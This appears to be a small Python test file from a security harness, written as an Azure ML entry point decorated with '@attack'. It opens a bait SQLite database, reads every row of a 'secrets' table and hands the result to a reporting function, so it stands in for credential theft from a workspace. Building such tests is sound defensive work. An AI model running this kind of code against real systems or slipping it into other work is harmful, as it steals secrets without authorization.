"""Reads the secrets that the workspace keeps in its database."""

import sqlite3

from attack import BAIT, attack, told


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    database = sqlite3.connect("file:" + BAIT["database"] + "?mode=ro", uri=True)
    return told("the database", str(database.execute("SELECT * FROM secrets").fetchall()).encode())
